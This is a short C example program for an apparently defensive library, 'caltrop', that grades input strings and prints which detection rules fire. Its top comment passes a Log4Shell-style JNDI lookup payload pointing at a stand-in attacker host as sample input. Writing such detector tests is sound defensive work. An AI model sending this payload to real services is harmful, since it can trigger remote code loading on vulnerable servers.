/* cc judge.c -lcaltrop && ./a.out '${jndi:ldap://evil.example/a}' */
#include <caltrop/caltrop.h>
#include <stdio.h>
#include <string.h>

int main(int argc, char **argv)
{
    const caltrop_verdict *v;
    caltrop_judge *judge = caltrop_judge_new();
    for (int i = 1; judge && i < argc; i++) {
        if (caltrop_judge_text(judge, argv[i], strlen(argv[i]), &v) != CALTROP_OK) continue;
        printf("%s", caltrop_grade_name(caltrop_verdict_grade(v)));
        for (size_t k = 0; k < caltrop_verdict_fires_count(v); k++) {
            caltrop_fires f = caltrop_verdict_fires(v, k);
            printf(", %.*s-%.*s (%s)", (int)f.first.n, f.first.p, (int)f.last.n, f.last.p, f.sink);
        }
        printf("\n");
    }
    caltrop_judge_free(judge);
    return judge ? 0 : 1;
}
